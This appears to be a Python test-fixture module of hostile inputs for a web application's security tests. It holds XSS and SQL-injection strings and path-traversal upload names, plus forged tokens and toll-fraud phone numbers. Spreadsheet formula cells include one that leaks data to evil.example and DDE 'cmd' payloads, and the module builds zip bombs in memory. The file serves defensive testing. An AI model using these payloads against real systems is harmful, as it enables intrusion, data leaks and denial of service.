"""Hostile input shared by the hostile-input tests: what an attacker (or a broken client) sends.

Each list is small on purpose: every form and every API endpoint gets every text payload, so the
suite's added time stays a few seconds per database. Zip bombs are built here, in memory, when a test
asks for one (no bomb file is ever stored in the repository).
"""

import functools
import io
import struct
import zlib

XSS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "<svg/onload=alert(1)>",
    "javascript:alert(1)",
    "<a href=\"javascript:alert(1)\">点我</a>",
    "</textarea><script>alert(1)</script>",
    "{{ 7 * 7 }}{% raw %}",  # template injection: must come back literally
]
SQL_INJECTION = [
    "' OR '1'='1",
    "1; DROP TABLE submissions; --",
    "\" OR 1=1 --",
    "' UNION SELECT password_hash FROM users --",
    "%' AND 1=0 UNION SELECT 1 --",
]
CONTROL_AND_UNICODE = [
    "nul\x00byte",
    "bell\x07and\x1bescape",
    "right-to-left \u202eexe.txt",
    "zero\u200bwidth",
    "\ufeffBOM",
]
LONG_TITLE = "标" * 10_000
TEXT_PAYLOADS = XSS + SQL_INJECTION + CONTROL_AND_UNICODE + [LONG_TITLE]
# The subset sent through every HTML form (each post renders a page: keep the suite quick).
FORM_PAYLOADS = XSS[:4] + SQL_INJECTION[:2] + CONTROL_AND_UNICODE[:2] + [LONG_TITLE]

# Upload names: path traversal, double extensions, names that hide their type.
UPLOAD_NAMES = [
    "../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/shadow",
    "report.pdf.exe",
    "photo.jpg.php",
    "invoice.pdf%00.html",
    "<script>alert(1)</script>.png",
    ".htaccess",
]

# Raw bodies that are not valid text at all.
INVALID_UTF8 = [b"\xff\xfe\xfd", b"\xc3\x28", b"\xed\xa0\x80", b"ok\x80ok"]
OVERSIZED_BYTES = 2 * 1024 * 1024  # over MAX_CONTENT_LENGTH (1 MiB)

# JSON nested far deeper than any request needs: Python's parser would recurse until RecursionError.
DEEP_JSON = [
    b'{"a":' * 5000 + b"1" + b"}" * 5000,  # 30 KB, 5,000 levels
    b"[" * 5000 + b"]" * 5000,
    b'{"body": "' + b"[" * 100 + b'", "x": ' + b"[" * 3000 + b"]" * 3000 + b"}",  # brackets inside a string too
]

FORGED_TOKENS = [
    "forged",
    "",
    "a" * 64,
    "eyJhbGciOiJub25lIn0.eyJ1c2VyIjoxfQ.",  # an unsigned JWT
    "IjEi.ZZZZZZ.forgedsignature",  # itsdangerous-shaped, wrong signature
    "' OR 1=1 --",
]

# Raw markup that must never appear in a page (escaped, it reads "&lt;script&gt;…" and is harmless).
MARKERS = ["<script>alert(1)</script>", "<img src=x onerror", "<svg/onload=alert(1)>", '<a href="javascript:alert(1)"']

# Ids no 32-bit id column can hold: one past PostgreSQL's integer, one past SQLite's 64-bit integer, and
# the twenty nines a probe sent. Every route and every id in a query string answers 404 for each.
# Numbers an SMS-pumping (toll fraud) attempt types into a form that sends codes: international premium
# ranges, satellite and unassigned prefixes, landlines, over-long digit runs, digits of other scripts,
# control characters. None of them may ever get an SMS.
PUMPED_NUMBERS = [
    "+882 1234 5678", "+44 70 1234 5678", "+1 900 555 0100", "+86 170 0000 0000 000", "8613900000000000000",
    "0571-87654321", "13800138000\x00", "１３８ⅰ００１３８０００", "138001380001380013800", "+86 (0) 10086",
]

HUGE_IDS = [2**31, 2**63, 99999999999999999999]
# Query-string parameters through which pages read ids and other whole numbers.
ID_QUERY_PARAMS = ["department", "mailbox", "submission", "template", "before", "year", "from", "to"]

# Cells a spreadsheet program would run as a formula (CSV/XLSX injection), whatever the export.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")

# --- zip bombs ------------------------------------------------------------------------------------------
GIB = 1 << 30
_MIB = 1 << 20
_CRC_OF_ZEROS = {GIB: 0x5B64C2B0, 64 * _MIB: 0xB2EB30ED}  # zlib.crc32 of that many zero bytes
_DOCX_TYPES = (b'<Types><Override ContentType="application/vnd.openxmlformats-officedocument.'
               b'wordprocessingml.document.main+xml"/></Types>')


@functools.cache
def deflated_zeros(size: int) -> bytes:
    """Raw deflate of ``size`` zero bytes (a multiple of 1 MiB): one 1 MiB block repeated, ~1 KB per MiB."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = compressor.compress(bytes(_MIB)) + compressor.flush(zlib.Z_FULL_FLUSH)  # byte-aligned, history reset
    return block * (size // _MIB) + zlib.compressobj(9, zlib.DEFLATED, -15).flush()  # + an empty final block


def zip_bytes(entries: list[tuple[str, bytes | None, int, int]], *, claimed_entries: int | None = None) -> bytes:
    """A zip written by hand from (name, deflated bytes, CRC-32, declared size): sizes say what we like.

    ``claimed_entries`` puts another count in the end record; an entry whose bytes are None is only
    listed in the central directory (a member-count bomb then costs 50 bytes per member).
    """
    out, directory = io.BytesIO(), []
    for name, body, crc, declared in entries:
        encoded, offset = name.encode(), out.tell()
        if body is not None:
            out.write(struct.pack("<4s5H3I2H", b"PK\x03\x04", 20, 0, 8, 0, 0, crc, len(body), declared,
                                  len(encoded), 0) + encoded + body)
        size = len(body or b"")
        directory.append(struct.pack("<4s6H3I5H2I", b"PK\x01\x02", 20, 20, 0, 8, 0, 0, crc, size, declared,
                                     len(encoded), 0, 0, 0, 0, 0, offset) + encoded)
    start = out.tell()
    out.write(b"".join(directory))
    count = min(claimed_entries if claimed_entries is not None else len(directory), 0xFFFF)
    out.write(struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, count, count, out.tell() - start, start, 0))
    return out.getvalue()


def _small(name: str, data: bytes) -> tuple[str, bytes, int, int]:
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    return name, compressor.compress(data) + compressor.flush(), zlib.crc32(data), len(data)


def _zeros(name: str, size: int, declared: int | None = None) -> tuple[str, bytes, int, int]:
    return name, deflated_zeros(size), _CRC_OF_ZEROS[size], size if declared is None else declared


@functools.cache
def zip_bomb(kind: str) -> bytes:
    """One of ``ZIP_BOMBS``, built in memory (each is at most a few MB however much it inflates to)."""
    rels = _small("_rels/.rels", b"<Relationships/>")
    if kind == "lying-manifest":  # the probe's bomb: [Content_Types].xml says 1 KiB and inflates to 1 GiB
        return zip_bytes([_zeros("[Content_Types].xml", GIB, declared=1024), rels])
    if kind == "honest-1gib":  # a real manifest; the document body declares (truly) 1 GiB
        return zip_bytes([_small("[Content_Types].xml", _DOCX_TYPES), rels, _zeros("word/document.xml", GIB)])
    if kind == "lying-body":  # the document body declares 1 KiB and inflates to 1 GiB
        return zip_bytes([_small("[Content_Types].xml", _DOCX_TYPES), _zeros("word/document.xml", GIB, 1024)])
    if kind == "ratio":  # 64 MiB of zeros: 1,000 times smaller than what it declares
        return zip_bytes([_small("[Content_Types].xml", _DOCX_TYPES), _zeros("word/media/image1.png", 64 * _MIB)])
    if kind in ("many-members", "huge-directory"):  # 4,000 members in 200 KB, or 100,000 in 5 MB; the end
        count = 4_000 if kind == "many-members" else 100_000  # record claims 2 either way
        entries = [_small("[Content_Types].xml", _DOCX_TYPES)] + [(f"m/{n}", None, 0, 0) for n in range(count)]
        return zip_bytes(entries, claimed_entries=2)
    if kind == "odf":  # an OpenDocument text whose content.xml inflates to 1 GiB
        return zip_bytes([_small("mimetype", b"application/vnd.oasis.opendocument.text"),
                          _zeros("content.xml", GIB)])
    raise KeyError(kind)


ZIP_BOMBS = ["lying-manifest", "honest-1gib", "lying-body", "ratio", "many-members", "huge-directory", "odf"]
